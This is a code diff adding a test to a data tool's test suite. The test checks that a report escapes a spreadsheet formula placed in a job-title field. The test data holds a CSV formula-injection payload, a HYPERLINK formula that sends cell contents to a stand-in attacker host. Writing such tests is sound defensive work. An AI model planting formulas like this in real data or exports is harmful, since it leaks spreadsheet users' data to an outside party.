@@ -189,6 +189,16 @@ def refused_rows(own: Path) -> list[dict[str, str]]:
         return list(csv.DictReader(file))
 
 
+def test_no_spreadsheet_runs_what_a_report_repeats(own: Path, tmp_path: Path) -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"more")'
+    rows = [*ROWS, {**ROWS[2], "job_title": formula}]
+    done = command(
+        own, write(tmp_path / "rows.jsonl", rows), *CITED, *RENAMED, "--kind", "placement"
+    )
+    assert done.returncode == 0, done.stderr
+    assert [row["job_title"] for row in refused_rows(own)] == ["Pastry Chef", f"'{formula}"]
+
+
 def test_csv_json_lines_and_parquet_of_the_same_rows_give_the_same_observations(
     own: Path, tmp_path: Path
 ) -> None:
